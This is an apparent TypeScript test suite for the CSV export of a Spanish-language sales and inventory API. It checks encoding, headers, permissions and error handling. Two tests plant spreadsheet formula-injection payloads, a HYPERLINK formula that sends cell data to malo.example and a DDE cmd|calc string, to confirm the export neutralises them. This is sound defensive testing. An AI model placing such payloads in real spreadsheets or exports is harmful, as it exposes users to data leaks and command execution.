import { readdir } from 'node:fs/promises'
import { messages } from '@yunque/contract/core/messages'
import { sql } from 'kysely'
import { expect, test } from 'vitest'
import { area, client as newClient } from '../../test/build.ts'
import { testStore } from '../../test/harness.ts'
import { programOf } from '../../test/keys.ts'
import { parseCsv } from '../../test/parse-csv.ts'
import { businessDay, stockedProduct } from '../../test/stock.ts'
import { countForSearch } from '../inventory/products/count-for-search.ts'

const store = testStore()
const today = businessDay()
const run = <Row>(statement: ReturnType<typeof sql<Row>>) => statement.execute(store.database.db)

const sale = async (by = store.admin) => {
  const productId = await stockedProduct(store, { stock: 10, price: 115 })
  const billDetails = [{ productId, quantity: 2, price: 115 }]
  const { body, text } = await by.post('bills', { date: today, clientId: 1, paymentTypeId: 1, billDetails })
  expect(body.id, text).toEqual(expect.any(Number))
  return body.id as number
}
const csvOf = async (path: string, query: object = {}, by = store.admin) => {
  const answer = await by.get(`${path}/export`, { format: 'csv', ...query })
  expect(answer.status, answer.text).toBe(200)
  const [names = [], ...rows] = parseCsv(answer.text.slice(1))
  return {
    answer,
    names,
    rows: rows.map((row) => Object.fromEntries(names.map((name, at) => [name, row[at]]))),
  }
}

test('a list is CSV for a spreadsheet: UTF-8 with its mark, commas, CR LF, points, ISO days, true and false', async () => {
  const id = await sale()
  const { answer, names, rows } = await csvOf('bills')
  expect(answer.headers).toMatchObject({
    'content-type': 'text/csv; charset=utf-8',
    'content-disposition': 'attachment; filename="facturas.csv"',
    'content-length': String(answer.bytes.length),
    'cache-control': 'no-store',
  })
  expect([...answer.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
  expect(answer.text).toMatch(/\r\n$/)
  expect(answer.text.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/)
  expect(names).toContain('total')
  const listed = (await store.admin.get('bills/get')).body.data[0]
  expect(rows[0]).toMatchObject({ id: String(id), date: today, total: '230', active: 'true' })
  expect(rows[0]?.createAt).toBe(listed.createAt)
})

test('the titles and the words of the screen come where they are asked for, with the hour of the store', async () => {
  const id = await sale()
  const { rows } = await csvOf('bills', { header: 'titles', values: 'words', filter: ['id', '=', id] })
  expect(rows[0]).toMatchObject({ 'No.': String(id), Total: '230', Fecha: today })
  const columns = [
    { field: 'total', title: 'Vendido' },
    { field: 'createAt', title: 'Hora' },
  ]
  const chosen = await csvOf('bills', { columns, header: 'titles', values: 'words', filter: ['id', '=', id] })
  const { rows: local } = await run(
    sql<{ at: string }>`select to_char(b.created_at at time zone s.time_zone, 'YYYY-MM-DD"T"HH24:MI:SS') as at
      from bills b, settings s where b.id = ${id}`,
  )
  expect(chosen.rows).toEqual([{ Vendido: '230', Hora: local[0]?.at }])
  const selected = await csvOf('bills', { select: ['total', 'id'], sort: [{ selector: 'id' }] })
  expect(selected.names).toEqual(['total', 'id'])
  expect(selected.rows.at(-1)).toEqual({ total: '230', id: String(id) })
})

test('no title comes twice, because a spreadsheet refuses two columns of one name', async () => {
  const { body } = await store.admin.get('openapi.json')
  for (const url of Object.keys(body.paths)) {
    const path = url.replace('/api/', '').replace('{name}', 'family')
    if (!path.endsWith('/export') || path.includes('{')) continue
    const answer = await store.admin.get(path, { format: 'csv', header: 'titles', values: 'words' })
    if (answer.status !== 200) continue
    const [titles = []] = parseCsv(answer.text.slice(1))
    expect([path, new Set(titles).size]).toEqual([path, titles.length])
  }
})

test('a name that a spreadsheet would run is no formula, and quotes, commas and lines stay in their cell', async () => {
  const hostile = `=HYPERLINK("https://malo.example/?"&A1,"Ver, ya")`
  const evil = await newClient(store.admin, { name: hostile })
  await run(
    sql`update clients set name = ${hostile}, address = ${'Del "Gallo"\r\n2 c. al lago, m/d'} where id = ${evil.id}`,
  )
  const { answer, rows } = await csvOf('clients', { filter: ['id', '=', evil.id] })
  expect(rows).toHaveLength(1)
  expect(rows[0]?.name).toBe(`'${hostile}`)
  expect(Object.values(rows[0] ?? {})).toContain('Del "Gallo"\r\n2 c. al lago, m/d')
  // In the file itself the cell begins with a quote of RFC 4180, and what a spreadsheet reads of it with an apostrophe.
  expect(answer.text).toContain(`"'=HYPERLINK(""https`)
  for (const sign of ['=', '+', '-', '@', '\t', '\r']) {
    await run(sql`update clients set address = ${`${sign}1+1`} where id = ${evil.id}`)
    const { rows: again } = await csvOf('clients', { filter: ['id', '=', evil.id], select: ['address'] })
    expect(again[0]?.address).toBe(`'${sign}1+1`)
  }
})

test('the name of a product that is a formula stays a text, also among its sales', async () => {
  const name = "=cmd|' /C calc'!A1"
  const productId = await stockedProduct(store, { stock: 5, price: 115 })
  await run(sql`update products set name = ${name} where id = ${productId}`)
  const billDetails = [{ productId, quantity: 1, price: 115 }]
  await store.admin.post('bills', { date: today, clientId: 1, paymentTypeId: 1, billDetails })
  const listed = await csvOf('products', { filter: ['id', '=', productId], select: ['name'] })
  expect(listed.rows).toEqual([{ name: `'${name}` }])
  const sold = await csvOf('reports/sales', { areaId: 1, from: today, to: today, select: ['product'] })
  expect(sold.rows).toContainEqual({ product: `'${name}` })
})

test('a statement of account is CSV too, with names or titles in its header', async () => {
  const { id } = await newClient(store.admin, { creditLimit: 1000, creditDays: 30 })
  const productId = await stockedProduct(store, { stock: 5, price: 115 })
  const billDetails = [{ productId, quantity: 1, price: 115 }]
  await store.admin.post('bills', {
    date: today,
    clientId: id,
    paymentTypeId: 2,
    creditDays: 30,
    billDetails,
  })
  const { names, rows } = await csvOf(`clients/${id}/statement`)
  expect(names).toEqual(expect.arrayContaining(['date', 'kind', 'charge', 'balance']))
  expect(rows).toContainEqual(expect.objectContaining({ date: today, kind: 'Factura', charge: '115' }))
  const titled = await csvOf(`clients/${id}/statement`, { header: 'titles' })
  expect(titled.names).toEqual(expect.arrayContaining(['Fecha', 'Cargo', 'Saldo']))
})

test('a program with a key reads it; columns of costs only where the key may read costs', async () => {
  const maker = await store.user({
    resources: ['verReporteStock', 'verExistencias', 'verColumnaCostoStock'],
  })
  await stockedProduct(store, { stock: 4, cost: 61, price: 100 })
  const reader = await programOf(store, maker, { writes: false })
  const blind = await programOf(store, maker, {
    writes: false,
    resources: ['verReporteStock', 'verExistencias'],
  })
  const query = { areaId: 1 }
  const all = await csvOf('reports/stock', query, reader)
  const less = await csvOf('reports/stock', query, blind)
  const costs = all.names.filter((name) => !less.names.includes(name))
  expect(costs.length).toBeGreaterThan(0)
  expect(
    costs.every((name) => /cost|value|total/i.test(name)),
    costs.join(),
  ).toBe(true)
  expect(less.rows.length).toBe(all.rows.length)
  const refused = await blind.get('reports/stock/export', {
    ...query,
    format: 'csv',
    select: costs.slice(0, 1),
  })
  expect(refused).toMatchObject({ status: 400, text: `La lista no tiene el campo ${costs[0]}` })
})

test('a program of an area reads its rows alone; without the permission it reads none', async () => {
  await sale()
  const { id: other } = await area(store.admin)
  const elsewhere = await programOf(store, store.admin, { areaId: other })
  expect((await csvOf('bills', {}, elsewhere)).rows).toEqual([])
  expect(
    (await csvOf('bills', {}, await programOf(store, store.admin, { areaId: 1 }))).rows.length,
  ).toBeGreaterThan(0)
  const without = await programOf(store, store.admin, { resources: ['verClientes'] })
  expect(await without.get('bills/export', { format: 'csv' })).toMatchObject({
    status: 403,
    text: messages.noPermission,
  })
  expect((await store.anonymous.get('bills/export', { format: 'csv' })).status).toBe(401)
})

test('a list of more rows than a part is whole, in its order and of one moment', async () => {
  await run(sql`insert into clients (name) select 'Cliente ' || n from generate_series(1, 3500) n`)
  const { rows } = await csvOf('clients', { select: ['id'], sort: [{ selector: 'id' }] })
  const { rows: counted } = await run(sql<{ count: number }>`select count(*)::int as count from clients`)
  expect(rows).toHaveLength(counted[0]?.count ?? 0)
  const ids = rows.map(({ id }) => Number(id))
  expect(ids).toEqual(ids.toSorted((one, other) => one - other))
})

test('a search that finds nothing is spelled anew, as on the screen', async () => {
  await newClient(store.admin, { name: 'Ferretería Quetzaltenango' })
  await countForSearch(store.database.db)
  const filter = ['search', ['fullName'], 'quetzaltenago'] as const
  const page = await store.admin.get('clients/get', { filter })
  expect(page.body.respelled).toBe('quetzaltenango')
  const { rows } = await csvOf('clients', { filter })
  expect(rows).toHaveLength(page.body.data.length)
})

test('wrong requests are refused with a sentence, and nothing stays on the disk', async () => {
  expect(await store.admin.get('bills/export', { format: 'ods' })).toMatchObject({
    status: 400,
    text: 'El formato debe ser «xlsx» o «csv»',
  })
  expect((await store.admin.get('bills/export', { format: 'csv', header: 'x' })).status).toBe(400)
  expect((await store.admin.get('bills/export', { format: 'csv', select: ['colour'] })).status).toBe(400)
  expect((await store.admin.get('bills/export', { format: 'csv', filter: ['id', 'like', 1] })).status).toBe(
    400,
  )
  expect((await readdir(store.dataDir)).filter((name) => /^\.[\da-f-]{36}$/.test(name))).toEqual([])
})
